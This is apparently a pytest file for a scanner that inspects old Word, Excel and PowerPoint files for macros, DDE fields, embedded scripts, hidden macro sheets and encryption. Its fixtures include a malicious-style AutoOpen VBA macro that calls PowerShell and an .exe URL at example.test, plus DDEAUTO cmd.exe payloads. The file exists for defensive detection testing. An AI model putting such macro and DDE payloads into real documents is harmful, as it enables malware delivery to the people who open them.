"""Word, Excel and PowerPoint 97 to 2003."""

import random
import struct
import zlib
from dataclasses import replace
from io import BytesIO

import pytest

from files.office import made
from unhook.files.model import Found, Sign
from unhook.files.scanner import Sample
from unhook.files.scanners.ole_document import SCANNER
from unhook.limits import FILES

CODE = """
Sub AutoOpen()
    x = "68747470733a2f2f6578616d706c652e746573742f612e657865"
    Shell "powershell -enc http://example.test/b", 0
End Sub
"""


def scanned(data: bytes, kind: str = "doc", **more: object) -> Found:
    return SCANNER.scan(replace(Sample(data=data, kind=kind, name="a.doc"), **more))  # type: ignore[arg-type]


def names(found: Found) -> set[str]:
    return {sign.name for sign in found.signs}


def record(number: int, body: bytes) -> bytes:
    return struct.pack("<HH", number, len(body)) + body


@pytest.mark.parametrize("kind", ["doc", "xls", "ppt", "ole", "vsd"])
def test_reads_compound_files_by_content(kind: str) -> None:
    assert SCANNER.reads(Sample(data=b"", kind=kind))
    assert not SCANNER.reads(Sample(data=b"", kind="docx"))


def test_macro_of_a_word_document() -> None:
    found = scanned(made.compound({**made.word_document("Invoice"), **made.vba_streams(CODE)}))
    assert {"macro", "macro-auto-exec", "macro-suspicious"} <= names(found)
    assert found.record["vba"]["auto_exec"] == ["AutoOpen"]
    assert found.record["vba"]["hex"] == ["68747470733a2f2f6578616d706c652e746573742f612e657865"]
    tools = found.record["oletools"]
    assert tools["indicators"]["vba_macros"] == {"exists": True, "risk": "high"}
    assert {"type": "AutoExec", "keyword": "AutoOpen"} in tools["macros"]["keywords"]
    assert {each.url for each in found.references} == {"http://example.test/b", "https://example.test/a.exe"}
    assert [(child.name, child.how) for child in found.children] == [("Module1.bas", "macro")]
    assert b"powershell" in found.children[0].data


def test_macro_that_does_nothing_is_of_medium_risk() -> None:
    found = scanned(made.compound(made.vba_streams("Sub Sum()\r\n a = b + c\r\nEnd Sub")))
    assert "macro" in names(found)
    assert "macro-suspicious" not in names(found)
    assert found.record["oletools"]["indicators"]["vba_macros"] == {"exists": True, "risk": "medium"}


def test_project_without_source_is_told() -> None:
    found = scanned(
        made.compound({"Macros/VBA/dir": made.compressed(b"x"), "Macros/VBA/Module1": b"compiled"})
    )
    assert {"macro", "macro-without-source"} <= names(found)


def test_document_without_macros_says_so() -> None:
    found = scanned(made.compound(made.word_document("Hello")))
    assert found.record["oletools"]["indicators"]["vba_macros"] == {"exists": False, "risk": "none"}
    assert not found.signs
    assert not found.faults


def test_text_links_and_dde_of_word() -> None:
    text = (
        'Read\x13 HYPERLINK "https://example.com/x" \x14this page\x15 and www.example.org/y.\r'
        '\x13DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"\x14\x15'
        '\x13INCLUDETEXT "https://example.net/t" \x15'
    )
    found = scanned(made.compound(made.word_document(text)))
    assert "this page" in found.texts[0].text
    assert "HYPERLINK" not in found.texts[0].text
    assert [(each.url, each.how) for each in found.references] == [
        ("https://example.com/x", "field"),
        ("https://example.net/t", "relationship"),
        ("www.example.org/y", "text"),
    ]
    assert {"dde", "external-relationship"} == names(found)


def test_package_comes_out_as_a_file_and_a_program_is_told() -> None:
    data = made.compound(
        {
            **made.word_document(""),
            "ObjectPool/_1/\x01Ole10Native": made.ole_package("C:\\tmp\\run.js", b"alert(1)"),
        }
    )
    found = scanned(data)
    assert [(child.data, child.name, child.how) for child in found.children] == [
        (b"alert(1)", "run.js", "embedded object")
    ]
    assert Sign("embedded-program", "run.js") in found.signs


def test_equation_object() -> None:
    assert "equation-object" in names(scanned(made.compound({"ObjectPool/_1/Equation Native": b"x" * 40})))


def test_hidden_macro_sheet_that_starts_by_itself() -> None:
    sheet = record(0x85, bytes([0, 0, 0, 0, 2, 1, 6, 0]) + b"Macro1")
    name = record(0x18, struct.pack("<HBBHHHBBBB", 0x20, 0, 1, 0, 0, 0, 0, 0, 0, 0) + b"\0\x01")
    found = scanned(made.compound({"Workbook": sheet + name}), kind="xls")
    assert Sign("xlm-macro", "Macro1 very hidden") in found.signs
    assert Sign("macro-auto-exec", "Auto_Open") in found.signs
    assert Sign("macro", "XLM") in found.signs


def test_dde_and_words_of_a_workbook() -> None:
    link = "cmd\x03 /c calc"
    strings = struct.pack("<II", 1, 1) + struct.pack("<HB", 5, 0) + b"Total"
    stream = record(0x1AE, struct.pack("<HH", 1, len(link)) + b"\0" + link.encode()) + record(0xFC, strings)
    found = scanned(made.compound({"Workbook": stream}), kind="xls")
    assert Sign("dde", "cmd| /c calc") in found.signs
    assert found.texts[0].text == "Total"


def test_macro_inside_a_presentation() -> None:
    inside = made.compound(made.vba_streams(CODE, "VBA"))
    packed = struct.pack("<I", len(inside)) + zlib.compress(inside)
    stream = struct.pack("<HHI", 0x10, 0x1011, len(packed)) + packed
    words = "Quarter".encode("utf-16-le")
    stream += struct.pack("<HHI", 0, 0x0FA0, len(words)) + words
    found = scanned(made.compound({"PowerPoint Document": stream}), kind="ppt")
    assert {"macro", "macro-auto-exec"} <= names(found)
    assert found.texts[0].text == "Quarter"
    assert found.children[0].data == inside


def encrypted(password: str) -> bytes:
    ooxml = pytest.importorskip("msoffcrypto.format.ooxml")
    buffer = BytesIO()
    # The library's writer fails below the size of OLE's small streams.
    picture = random.Random(1).randbytes(8_000)
    plain = made.package({"word/document.xml": made.document(""), "word/media/image1.png": picture})
    ooxml.OOXMLFile(BytesIO(plain)).encrypt(password, buffer)
    return buffer.getvalue()


def test_encrypted_document_is_given_out_open_with_a_password_of_the_mail() -> None:
    found = scanned(encrypted("tulip-7"), kind="ole", passwords=("wrong", "tulip-7"))
    assert found.signs == (Sign("opened-with-password", "tulip-7"),)
    assert [child.how for child in found.children] == ["decrypted document"]
    assert found.children[0].data.startswith(b"PK\x03\x04")
    assert found.record["oletools"]["indicators"]["encryption"]["exists"]
    assert not found.faults


def test_excel_opens_its_own_password_without_asking() -> None:
    found = scanned(encrypted("VelvetSweatshop"), kind="ole")
    assert Sign("opened-with-password", "VelvetSweatshop") in found.signs


def test_encrypted_document_without_password_is_a_fault() -> None:
    found = scanned(encrypted("unknown-1"), kind="ole", passwords=("a", "b"))
    assert [fault.name for fault in found.faults] == ["encrypted"]
    assert names(found) == {"encrypted"}
    assert not found.children


def test_spin_count_of_billions_costs_one_password_at_most(monkeypatch: pytest.MonkeyPatch) -> None:
    from unhook.files.office import decryption

    monkeypatch.setattr(decryption, "_spins", lambda _: 10**9)
    found = scanned(encrypted("VelvetSweatshop"), kind="ole")
    assert [(fault.name, fault.detail) for fault in found.faults] == [
        ("encrypted", "not every password was tried")
    ]


def test_truncated_and_random_files_are_damaged_not_errors() -> None:
    whole = made.compound({**made.word_document("x" * 5_000), **made.vba_streams(CODE)})
    for cut in range(0, len(whole), 509):
        scanned(whole[:cut])
    assert scanned(whole[:600]).faults[0].name == "damaged"


def test_deep_storages_are_read_without_recursion_errors() -> None:
    path = "/".join(f"s{index}" for index in range(400))
    found = scanned(made.compound({f"{path}/\x01Ole10Native": made.ole_package("a.txt", b"deep")}))
    assert found.faults or found.children


def test_source_stops_at_its_limit() -> None:
    few = replace(FILES, macro_chars=100)
    found = scanned(made.compound(made.vba_streams("' x\r\n" * 2_000)), limits=few)
    assert "limit:macro_chars" in {fault.name for fault in found.faults}
    assert len(found.children[0].data) <= 100
